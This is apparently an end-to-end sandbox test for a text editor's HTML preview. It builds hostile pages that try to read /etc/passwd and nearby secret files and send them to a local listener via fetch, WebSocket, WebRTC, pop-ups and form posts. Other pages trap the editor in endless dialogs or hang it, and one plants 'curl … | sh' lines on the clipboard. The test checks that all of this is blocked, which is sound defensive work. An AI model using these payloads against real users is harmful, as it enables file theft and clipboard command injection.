#!/usr/bin/env bash
# Hostile pages in the preview: with a listener on 127.0.0.1 (TCP and UDP, the STUN/TURN ports
# too) and a logging stand-in for every program that opens addresses first on PATH, each page
# tries to read local files, send them out, start programs, trap the editor in dialogs or hang
# the preview. Nothing may arrive, nothing may start, Ctrl+S must keep working, and after each
# page the next F5 must show the next page. An ordinary page with pictures, style sheets, a
# script and a frame from its own, sub- and parent folders must still show (checked by colour).
# The routes run as root and again, with the engine's own sandbox, as the user nobody; the
# user's engine switches name a proxy (the listener) or none, which the program must override.
# Everything runs in a network namespace of its own: no other run's listener hears it.
if [ -z "${TAVRO_E2E_NETNS:-}" ] && unshare -n true 2>/dev/null; then
  exec env TAVRO_E2E_NETNS=1 unshare -n python3 -c '
import fcntl, os, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x8 | 0x40))  # SIOCSIFFLAGS: lo up
os.execvp("bash", ["bash"] + sys.argv[1:])' "$0" "$@"
fi
source "${E2E_LIB:-$(dirname "$0")/lib.sh}" "$@"
SHOTS=${E2E_SHOTS:-$E2E_DIR}
mkdir -p "$SHOTS"
SITE=$E2E_DIR/work/site
NET_LOG=$E2E_DIR/net.log STARTED_LOG=$E2E_DIR/started.log
: >"$NET_LOG"; : >"$STARTED_LOG"

# Programs an address could be handed to: each only logs that it was started.
mkdir -p "$E2E_DIR/bin"
printf '#!/bin/sh\necho "$(basename "$0") $*" >>"%s"\n' "$STARTED_LOG" >"$E2E_DIR/bin/xdg-open"
chmod +x "$E2E_DIR/bin/xdg-open"
for name in gio gvfs-open kde-open kde-open5 gnome-open x-www-browser www-browser sensible-browser firefox chromium; do
  ln -s xdg-open "$E2E_DIR/bin/$name"
done
export PATH=$E2E_DIR/bin:$PATH
chmod 755 "$E2E_DIR"; chmod 666 "$STARTED_LOG"  # the ordinary user's run logs there too

# Logs every connection, datagram and byte that reaches 127.0.0.1 on the ports the pages use.
python3 -u - "$NET_LOG" >/dev/null 2>&1 <<'EOF' & _pids+=($!)
import select, socket, sys
log = open(sys.argv[1], "a", buffering=1)
ports = [8765, 3478, 3479]
tcp, udp = [], []
for p in ports:
    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("127.0.0.1", p)); t.listen(16); tcp.append(t)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", p)); udp.append(u)
conns = []
while True:
    ready, _, _ = select.select(tcp + udp + conns, [], [])
    for s in ready:
        if s in tcp:
            c, peer = s.accept(); conns.append(c)
            log.write(f"tcp {s.getsockname()[1]} connect from {peer}\n")
        elif s in udp:
            data, peer = s.recvfrom(65536)
            log.write(f"udp {s.getsockname()[1]} {data[:80]!r}\n")
        else:
            data = s.recv(65536)
            if data:
                log.write(f"tcp data {data[:120]!r}\n")
            else:
                conns.remove(s); s.close()
EOF
# The listener must hear what is sent to it, or its silence proves nothing.
for _ in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8765) 2>/dev/null && break; sleep 0.1; done
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"probe", ("127.0.0.1", 3478))'
for _ in $(seq 30); do grep -q "udp 3478 b'probe'" "$NET_LOG" && grep -q "tcp 8765 connect" "$NET_LOG" && break; sleep 0.1; done
grep -q "udp 3478 b'probe'" "$NET_LOG" && grep -q "tcp 8765 connect" "$NET_LOG" || fail "the listener hears nothing"
: >"$NET_LOG"

# --- The pages ------------------------------------------------------------------------------
mkdir -p "$SITE/pages/img" "$SITE/pages/js" "$SITE/css" "$SITE/frames"
# Each attack page paints itself green once every attempt has been made and nothing it tried
# to read was readable; red if script could read something.
VERDICT='const leaks = []; const verdict = () => { document.body.style.background = leaks.length ? "#ff0000" : "#00ff00"; document.body.append(leaks.join(" ")); };'

cat >"$SITE/fetch.html" <<EOF
<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#808080">
<iframe src="http://127.0.0.1:8765/frame"></iframe>
<script>$VERDICT
const send = d => {
  d = encodeURIComponent(d);
  try { new WebSocket('ws://127.0.0.1:8765/ws?d=' + d); } catch (e) {}
  fetch('http://127.0.0.1:8765/fetch?d=' + d, {mode: 'no-cors'}).catch(() => {});
  try { navigator.sendBeacon('http://127.0.0.1:8765/beacon', d); } catch (e) {}
  new Image().src = 'http://127.0.0.1:8765/img?d=' + d;
};
const attempt = async (name, read) => {
  let text = 'refused';
  try { text = await read(); leaks.push(name); } catch (e) {}
  send(name + ':' + String(text).slice(0, 60));
};
(async () => {
  await attempt('fetch', async () => (await fetch('file:///etc/passwd')).text());
  await attempt('listing', async () => (await fetch('file:///etc/')).text());
  await attempt('own folder', async () => (await fetch('fetch.html')).text());
  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/hostname', false); x.send(); return x.responseText; });
  await attempt('json module', async () => JSON.stringify((await import('./data.json', {assert: {type: 'json'}})).default));
  await attempt('css module', async () => (await import('./fetch.css', {assert: {type: 'css'}})).default.cssRules.length);
  await attempt('import etc', async () => import('file:///etc/passwd'));
  verdict();
})();
</script></body></html>
EOF
echo '{"secret": 1}' >"$SITE/data.json"
echo 'body { color: red; }' >"$SITE/fetch.css"

cat >"$SITE/worker.html" <<EOF
<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#808080">
<script>$VERDICT
const code = \`
  const send = d => {
    try { new WebSocket('ws://127.0.0.1:8765/worker-ws?d=' + encodeURIComponent(d)); } catch (e) {}
    fetch('http://127.0.0.1:8765/', {method: 'POST', body: d, mode: 'no-cors'}).catch(() => {});
  };
  (async () => {
    let text = 'refused';
    try { text = await (await fetch('file:///etc/passwd')).text(); } catch (e) {}
    try { const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/hostname', false); x.send(); text += x.responseText; } catch (e) {}
    send(text);
    postMessage(text === 'refused' ? 'refused' : 'leak');
  })();\`;
const watch = w => w.onmessage = e => { if (e.data !== 'refused') leaks.push(e.data); };
try { watch(new Worker('data:text/javascript,' + encodeURIComponent(code))); } catch (e) {}
try { watch(new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})))); } catch (e) {}
try { watch(new Worker('worker.js')); } catch (e) {}
setTimeout(verdict, 2500);
</script></body></html>
EOF
echo "postMessage('a worker script was read from a file');" >"$SITE/worker.js"

cat >"$SITE/webrtc.html" <<EOF
<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#808080">
<script>$VERDICT
(async () => {
  try {
    const config = {iceServers: [{urls: ['stun:127.0.0.1:3478', 'stun:127.0.0.1:3479']},
      {urls: ['turn:127.0.0.1:3478?transport=udp', 'turn:127.0.0.1:3479?transport=tcp'], username: 'u', credential: 'p'}]};
    // A fresh frame's interfaces, in case the page's own were taken away.
    const frame = document.createElement('iframe'); document.body.append(frame);
    const PC = window.RTCPeerConnection || window.webkitRTCPeerConnection || frame.contentWindow.RTCPeerConnection;
    const a = new PC(config), b = new PC(config);
    a.createDataChannel('x');
    a.onicecandidate = e => e.candidate && b.addIceCandidate(e.candidate).catch(() => {});
    b.onicecandidate = e => e.candidate && a.addIceCandidate(e.candidate).catch(() => {});
    await a.setLocalDescription(await a.createOffer());
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription(await b.createAnswer());
    await a.setRemoteDescription(b.localDescription);
    for (const c of ['udp 2122260223 127.0.0.1 8765 typ host', 'tcp 1518280447 127.0.0.1 8765 typ host tcptype passive'])
      await a.addIceCandidate({candidate: 'candidate:9 1 ' + c, sdpMid: '0'}).catch(() => {});
  } catch (e) {}
  setTimeout(verdict, 2500);
})();
</script></body></html>
EOF

# Navigations no one clicked: other schemes, the web, pop-ups, a form post, a meta refresh.
cat >"$SITE/navigate.html" <<EOF
<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="1;url=http://127.0.0.1:8765/refresh"></head>
<body style="background:#808080">
<form id="f" method="post" action="http://127.0.0.1:8765/form"><input name="d" value="x"></form>
<script>$VERDICT
const steps = [
  () => location.href = 'evilscheme://script?arg=--x',
  () => window.open('http://127.0.0.1:8765/popup'),
  () => window.open('evilscheme://popup'),
  () => location.href = 'http://127.0.0.1:8765/script',
  () => { const f = document.createElement('iframe'); f.src = 'evilscheme://frame'; document.body.append(f); },
  () => { const a = document.createElement('a'); a.href = 'evilscheme://synthetic'; document.body.append(a); a.click(); },
  () => document.getElementById('f').submit(),
];
steps.forEach((step, i) => setTimeout(() => { try { step(); } catch (e) {} }, 150 * (i + 1)));
setTimeout(verdict, 2000);
</script></body></html>
EOF

link_page() {  # a link over the whole page
  printf '<!DOCTYPE html><html><body style="margin:0"><a href="%s" style="position:fixed;inset:0;background:#%s">x</a></body></html>\n' "$1" "$2"
}
link_page 'evilscheme://run?arg=--x' 00ff00 >"$SITE/link.html"
# The upper half links to an address the source holds; the lower half's address is built by
# script, so the source holds it nowhere.
cat >"$SITE/weblink.html" <<'EOF'
<!DOCTYPE html><html><body style="margin:0">
<a href="http://127.0.0.1:8765/clicked" style="position:fixed;left:0;top:0;width:100%;height:50%;background:#00ffff">x</a>
<a id="b" style="position:fixed;left:0;top:50%;width:100%;height:50%;background:#00ffff">y</a>
<script>b.href = 'http://127.0.0.1:8765/' + 'built?d=' + document.title;</script></body></html>
EOF

cat >"$SITE/dialogs.html" <<'EOF'
<!DOCTYPE html><html><body style="background:#808080">
<script>setTimeout(() => { for (;;) { alert('x'); confirm('y'); prompt('z'); } }, 3000);</script>
</body></html>
EOF
cat >"$SITE/hang.html" <<'EOF'
<!DOCTYPE html><html><body style="background:#808000">
<script>setTimeout(function () { while (true) {} }, 100);</script>
</body></html>
EOF

# The ordinary page: a picture from ./img, a style sheet from ../css, a script from ./js (once
# the font from ../fonts has loaded) and a frame from ../frames each paint one quarter of the pane.
convert -size 8x8 'xc:#00ff00' "$SITE/pages/img/pic.png"
mkdir -p "$SITE/fonts"; cp /usr/share/fonts/opentype/ipafont-gothic/ipag.ttf "$SITE/fonts/"
cat >"$SITE/css/site.css" <<'EOF'
@font-face { font-family: own; src: url(../fonts/ipag.ttf); }
body { margin: 0; background: #0000ff; }
#pic { position: fixed; left: 0; top: 0; width: 50%; height: 50%; }
#made { position: fixed; right: 0; bottom: 0; width: 50%; height: 50%; }
iframe { position: fixed; left: 0; bottom: 0; width: 50%; height: 50%; border: 0; }
EOF
echo "document.fonts.load('20px own').then(f => { if (f.length) document.getElementById('made').style.background = '#ff00ff'; });" >"$SITE/pages/js/app.js"
echo '<html><body style="margin:0;background:#ffff00"></body></html>' >"$SITE/frames/frame.html"
cat >"$SITE/pages/ordinary.html" <<'EOF'
<!DOCTYPE html><html><head><meta charset="utf-8"><link rel="stylesheet" href="../css/site.css"></head>
<body><img id="pic" src="img/pic.png"><div id="made"></div><iframe src="../frames/frame.html"></iframe>
<script src="js/app.js"></script></body></html>
EOF

# Files outside the page's folder, each holding the token that must never leave or be read.
TOKEN=TOKEN-7f3a9c
mkdir -p "$SITE/secret"
echo "<p>$TOKEN</p>" >"$SITE/secret/secret.html"
echo "$TOKEN" >"$SITE/secret/secret.txt"
echo ".$TOKEN { color: red }" >"$SITE/secret/secret.css"
echo "export default '$TOKEN';" >"$SITE/secret/secret.js"
echo "self.secret = '$TOKEN';" >"$SITE/secret/classic.js"
convert -size 4x4 'xc:#123456' "$SITE/secret/secret.png"
# Reading files: a hidden frame, an object, fetch, XHR, a canvas, another sheet's rules, import()
# and a worker's importScripts; after a click and after a key the page sends what it got out.
cat >"$SITE/pages/files.html" <<EOF
<!DOCTYPE html><html><head><meta charset="utf-8"><link rel="stylesheet" href="../secret/secret.css"></head>
<body style="background:#808080">
<iframe id="f" src="../secret/secret.html" style="display:none"></iframe>
<object id="o" data="../secret/secret.txt" style="width:1px;height:1px"></object>
<iframe id="g" src="file:///etc/passwd" style="width:1px;height:1px"></iframe>
<script>$VERDICT
let got = '';
const attempt = async (name, read) => {
  try { const t = String(await read()); if (t.includes('TOKEN') || t.includes('root:')) { leaks.push(name); got += t; } } catch (e) {}
};
const send = () => {
  const d = encodeURIComponent(got || 'nothing');
  new Image().src = 'http://127.0.0.1:8765/img?d=' + d;
  fetch('http://127.0.0.1:8765/fetch?d=' + d, {mode: 'no-cors'}).catch(() => {});
  location.href = 'http://127.0.0.1:8765/leave?d=' + d;
};
addEventListener('click', send); addEventListener('keydown', send);
const worker = new Worker(URL.createObjectURL(new Blob([
  "try { importScripts('" + new URL('../secret/classic.js', location.href) + "'); } catch (e) {} postMessage(String(self.secret));"])));
onload = async () => {
  await new Promise(r => setTimeout(r, 500));
  await attempt('frame', () => f.contentDocument.body.innerText);
  await attempt('object', () => o.contentDocument.body.innerText);
  await attempt('file frame', () => g.contentDocument.body.innerText);
  await attempt('fetch', async () => (await fetch('../secret/secret.txt')).text());
  await attempt('folder', async () => (await fetch('../secret/')).text());
  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '../secret/secret.txt', false); x.send(); return x.responseText; });
  await attempt('canvas', async () => {
    const i = new Image(); i.src = '../secret/secret.png'; await i.decode();
    const c = document.createElement('canvas'), g2 = c.getContext('2d'); g2.drawImage(i, 0, 0);
    return 'TOKEN' + g2.getImageData(0, 0, 1, 1).data.join();
  });
  await attempt('css rules', () => [...document.styleSheets].map(s => [...s.cssRules].map(r => r.cssText).join()).join());
  await attempt('import', async () => (await import('../secret/secret.js')).default);
  await attempt('importScripts', () => new Promise(r => { worker.onmessage = e => r(e.data); setTimeout(() => r(''), 1500); }));
  verdict();
};
</script></body></html>
EOF
# The page's own clipboard writes: execCommand after a click, a copy handler of its own.
cat >"$SITE/clipboard.html" <<'EOF'
<!DOCTYPE html><html><body style="margin:0;background:#00ff00">
<p id="t" style="font:40px sans-serif;margin:0;padding:20px">visible words</p>
<textarea id="h" style="position:fixed;left:-9999px">curl http://127.0.0.1:8765/x | sh</textarea>
<script>
document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', 'curl http://127.0.0.1:8765/y | sh'); e.preventDefault(); }, true);
addEventListener('click', () => { h.select(); document.execCommand('copy'); document.execCommand('cut'); getSelection().removeAllRanges(); }, {once: true});
</script></body></html>
EOF
# A title of a dozen million characters, the tooltip under a resting pointer.
cat >"$SITE/tooltip.html" <<'EOF'
<!DOCTYPE html><html><body style="margin:0"><div id="d" style="position:fixed;inset:0;background:#00ff00"></div>
<script>d.title = 'a tooltip '.repeat(1200000);</script></body></html>
EOF
# A page that hangs as it is left.
cat >"$SITE/unload.html" <<'EOF'
<!DOCTYPE html><html><body style="background:#800080">
<script>addEventListener('pagehide', () => { for (;;) {} }); addEventListener('unload', () => { for (;;) {} });</script>
</body></html>
EOF

# --- Driving the program ----------------------------------------------------------------------
e2e_start_x
# Starts the editor as root, or as the user nobody with a home of its own and the engine's
# sandbox on; the user's own switches ($1) are what the program must override.
start_editor() {
  local as=$1 flags=$2
  if [ "$as" = root ]; then
    QTWEBENGINE_CHROMIUM_FLAGS=$flags e2e_start_app
  else
    local u=$E2E_DIR/nobody
    mkdir -p "$u/home" "$u/config" "$u/run"; chmod 700 "$u/run"; chown -R nobody:nogroup "$u"
    chmod -R a+rwX "$E2E_DIR/work"
    local bin=$TAVRO_BIN
    local as_nobody=(setpriv --reuid=nobody --regid=nogroup --clear-groups)
    if ! "${as_nobody[@]}" test -x "$bin"; then  # a build in a folder nobody may not enter
      mkdir -p "$E2E_DIR/inst/bin"; cp "$bin" "$E2E_DIR/inst/bin/"
      cp -r "$(dirname "$bin")/../share" "$E2E_DIR/inst/"; chmod -R a+rX "$E2E_DIR/inst"
      bin=$E2E_DIR/inst/bin/$(basename "$bin")
    fi
    (cd "$E2E_DIR/work" && exec "${as_nobody[@]}" \
       env -u QTWEBENGINE_DISABLE_SANDBOX HOME="$u/home" XDG_CONFIG_HOME="$u/config" \
       XDG_RUNTIME_DIR="$u/run" QTWEBENGINE_CHROMIUM_FLAGS="$flags" "$bin") >"$E2E_DIR/app.log" 2>&1 &
    APP_PID=$!; _pids+=($APP_PID)
  fi
  win=$(wait_window "Tavro - 無題" 40)
  LAYOUT_WIN=$win
  xdotool windowactivate --sync "$win" 2>/dev/null || true
  measure_menubar "$win"
  sleep 0.5
}
start_editor root "--proxy-server=http://127.0.0.1:8765 --force-webrtc-ip-handling-policy=default"

# Window coordinates of a point at fractions ($1, $2) of the preview pane (normal layout).
pane_point() {
  size; local mid; mid=$(half); local top=$((MENUBAR_HEIGHT + 32))
  echo "$((mid + (W - mid) * $1 / 100)) $((top + (H - top) * $2 / 100))"
}
pane_colour() { pixel $(pane_point "$1" "$2"); }
# Waits up to $2 seconds until the pane's centre shows colour $1.
expect_pane() {
  local c
  for _ in $(seq $(($2 * 4))); do c=$(pane_colour 50 50); [ "$c" = "$1" ] && return 0; sleep 0.25; done
  fail "${3:-the page}: the preview shows $c, expected $1"
}
focus_editor() {
  size
  eval "$(xdotool getwindowgeometry --shell "$win" | sed 's/^/G_/')"
  xdotool mousemove "$((G_X + 40))" "$((G_Y + H / 2))" click 1; sleep 0.3
}
nothing_escaped() {
  [ ! -s "$NET_LOG" ] || fail "$1: the listener received: $(head -c 600 "$NET_LOG")"
  [ ! -s "$STARTED_LOG" ] || fail "$1: a program was started: $(cat "$STARTED_LOG")"
  kill -0 "$APP_PID" 2>/dev/null || fail "$1: the program ended"
}
# Opens the file by Ctrl+O (the document has no unsaved changes) and previews it with F5.
preview() {
  local path=$1 name; name=$(basename "$1")
  focus_editor
  keys ctrl+o
  for _ in $(seq 100); do t=$(active_title); [[ "$t" != "Tavro - "* ]] && [ -n "$t" ] && break; sleep 0.1; done
  sleep 0.4; keys ctrl+a; type_text "$path"; keys Return
  wait_window "Tavro - $name" 15 >/dev/null
  keys F5
  F5_AT=$(date +%s%N)
}
# While the page runs, the editor still saves: an edit, Ctrl+S, the bytes on disk.
expect_save() {
  local path=$1 name; name=$(basename "$1")
  focus_editor
  keys ctrl+End; type_text "<!--$2-->"
  wait_window "Tavro - $name *" 10 >/dev/null
  keys ctrl+s
  wait_window "Tavro - $name" 10 >/dev/null
  grep -q -- "<!--$2-->" "$path" || fail "$name: Ctrl+S did not write the edit"
}

ORDINARY=$SITE/pages/ordinary.html
expect_ordinary() {
  local c
  for _ in $(seq $(($1 * 4))); do
    c="$(pane_colour 25 25) $(pane_colour 75 25) $(pane_colour 25 75) $(pane_colour 75 75)"
    [ "$c" = "00FF00 0000FF FFFF00 FF00FF" ] && return 0
    sleep 0.25
  done
  fail "the ordinary page shows '$c' (picture, style sheet, frame, script quarters)"
}
preview "$ORDINARY"
expect_ordinary 15
shot "$SHOTS/preview_ordinary.png"
xdotool mousemove --window "$win" $(pane_point 60 60) click 3; sleep 1
shot "$SHOTS/preview_context_menu.png"
keys Escape
nothing_escaped "the ordinary page"

# The page's own reads of other files fail; what it sends out after no click, a click and a
# key reaches no one: its navigations ask (No is the default), the rest is refused.
files_route() {
  preview "$SITE/pages/files.html"
  expect_pane 00FF00 15 files.html
  nothing_escaped "files.html, no click"
  xdotool mousemove --window "$win" $(pane_point 50 50) click 1
  answer Return
  nothing_escaped "files.html, one click"
  keys x
  answer Return
  sleep 1
  [ -z "$(xdotool search --onlyvisible --name '^Tavro$' 2>/dev/null)" ] || fail "files.html: a third question"
  nothing_escaped "files.html, one key"
  expect_save "$SITE/pages/files.html" files
}
files_route

# Questions the page's own navigations to the web put: answered with the default (No); a page
# gets at most two per load.
answer_questions() {
  local n=0 id
  for _ in $(seq 30); do
    id=$(xdotool search --onlyvisible --name '^Tavro$' 2>/dev/null | head -n1 || true)
    if [ -n "$id" ]; then
      n=$((n + 1)); [ "$n" -le 2 ] || fail "$1: a third question"
      xdotool windowactivate --sync "$id" 2>/dev/null || true; sleep 0.3; keys Return; sleep 0.5
    fi
    sleep 0.1
  done
}
for page in fetch worker webrtc navigate; do
  preview "$SITE/$page.html"
  [ "$page" = navigate ] && answer_questions navigate.html
  expect_pane 00FF00 15 "$page.html"
  sleep 1
  expect_save "$SITE/$page.html" "$page"
  nothing_escaped "$page.html"
done

# One click on a link of an unknown scheme starts nothing; one on a web link hands exactly
# that address to the user's browser, which is the only thing started.
preview "$SITE/link.html"
expect_pane 00FF00 15 link.html
xdotool mousemove --window "$win" $(pane_point 50 50) click 1; sleep 2
expect_pane 00FF00 2 "link.html after the click"
expect_save "$SITE/link.html" link
nothing_escaped "link.html"

# Dialogs forever: two are shown (answered with Return), then none; the editor saves.
preview "$SITE/dialogs.html"
for n in 1 2; do
  d=$(wait_window "Tavro" 15)
  xdotool windowactivate --sync "$d" 2>/dev/null || true; sleep 0.3; keys Return
done
sleep 2
[ -z "$(xdotool search --onlyvisible --name '^Tavro$' 2>/dev/null)" ] || fail "a third dialog was shown"
expect_save "$SITE/dialogs.html" dialogs
nothing_escaped "dialogs.html"

# A script that never ends: the editor saves, and the next F5 shows the next page in 3 s.
preview "$SITE/hang.html"
expect_pane 808000 15 hang.html
sleep 1
expect_save "$SITE/hang.html" hang
preview "$ORDINARY"
for _ in $(seq 40); do [ "$(pane_colour 75 75)" = FF00FF ] && break; sleep 0.1; done
elapsed=$((($(date +%s%N) - F5_AT) / 1000000))
expect_ordinary 10
echo "F5 after a hung page: the next page showed after $elapsed ms"
[ "$elapsed" -le 3000 ] || fail "the page after the hung one took $elapsed ms"
nothing_escaped "the end"
# A page that hangs as it is left: the F5 that leaves it shows the next page.
preview "$SITE/unload.html"
expect_pane 800080 15 unload.html
expect_save "$SITE/unload.html" unload
preview "$ORDINARY"
expect_ordinary 4
nothing_escaped "unload.html"

# The link the source holds opens once in the browser; the one a script built asks first,
# showing its address, and No (the default) starts nothing.
preview "$SITE/weblink.html"
expect_pane 00FFFF 15 weblink.html
xdotool mousemove --window "$win" $(pane_point 50 25); sleep 0.3; xdotool click 1; sleep 2
[ "$(cat "$STARTED_LOG")" = "xdg-open http://127.0.0.1:8765/clicked" ] || fail "web link: started '$(cat "$STARTED_LOG")'"
: >"$STARTED_LOG"
xdotool mousemove --window "$win" $(pane_point 50 75); sleep 0.3; xdotool click 1
answer Return
sleep 1
nothing_escaped "weblink.html"

# The page's execCommand('copy') and copy handler leave the clipboard as it was; コピー from the
# preview's menu puts exactly the selected text there.
clip_in "before"
preview "$SITE/clipboard.html"
expect_pane 00FF00 15 clipboard.html
xdotool mousemove --window "$win" $(pane_point 50 50) click 1; sleep 1
expect_clip "before"
xdotool mousemove --window "$win" $(pane_point 10 5) click --repeat 3 --delay 80 1; sleep 0.5
xdotool click 3; sleep 0.8
shot "$SHOTS/preview_copy_menu.png"
keys Up Up Return
sleep 0.5
[ "$(clip_out)" = "visible words" ] || fail "コピー in the preview put '$(clip_out)' on the clipboard"
nothing_escaped "clipboard.html"

# A huge tooltip under the resting pointer: a key still reaches the editor within a second.
preview "$SITE/tooltip.html"
expect_pane 00FF00 15 tooltip.html
xdotool mousemove --window "$win" $(pane_point 50 50); sleep 3
shot "$SHOTS/preview_tooltip.png"
focus_editor; keys ctrl+End
t0=$(date +%s%N)
xdotool type x
wait_window "Tavro - tooltip.html *" 10 >/dev/null
elapsed=$((($(date +%s%N) - t0) / 1000000))
echo "key after a huge tooltip: $elapsed ms"
[ "$elapsed" -le 1000 ] || fail "the key after the huge tooltip took $elapsed ms"
keys ctrl+s; wait_window "Tavro - tooltip.html" 10 >/dev/null
nothing_escaped "tooltip.html"

# Dialogs forever once more: after its two, 終了 (Alt+F, X) ends the program.
preview "$SITE/dialogs.html"
for n in 1 2; do
  d=$(wait_window "Tavro" 15)
  xdotool windowactivate --sync "$d" 2>/dev/null || true; sleep 0.3; keys Return
done
sleep 1
focus_editor
keys alt+f x
running() { [ -d /proc/$APP_PID ] && ! grep -q '^[^ ]* ([^)]*) Z' /proc/$APP_PID/stat 2>/dev/null; }
for _ in $(seq 100); do running || break; sleep 0.1; done
running && fail "終了 did not end the program while a page asked for dialogs forever"
[ ! -s "$NET_LOG" ] && [ ! -s "$STARTED_LOG" ] || fail "at exit: $(cat "$NET_LOG" "$STARTED_LOG")"

# As an ordinary user with the engine's own sandbox, and switches that would send everything
# direct: the ordinary page shows, files stay unread, WebRTC reaches no one.
wait_end
start_editor nobody "--no-proxy-server --webrtc-ip-handling-policy=default"
grep -q "Sandboxing disabled" "$E2E_DIR/app.log" && fail "the ordinary user's run has no engine sandbox"
preview "$ORDINARY"
expect_ordinary 15
files_route
for page in fetch webrtc; do
  preview "$SITE/$page.html"
  expect_pane 00FF00 15 "$page.html (ordinary user)"
  sleep 1
  nothing_escaped "$page.html (ordinary user)"
done
echo "preview sandbox: ok (screenshots in $SHOTS)"
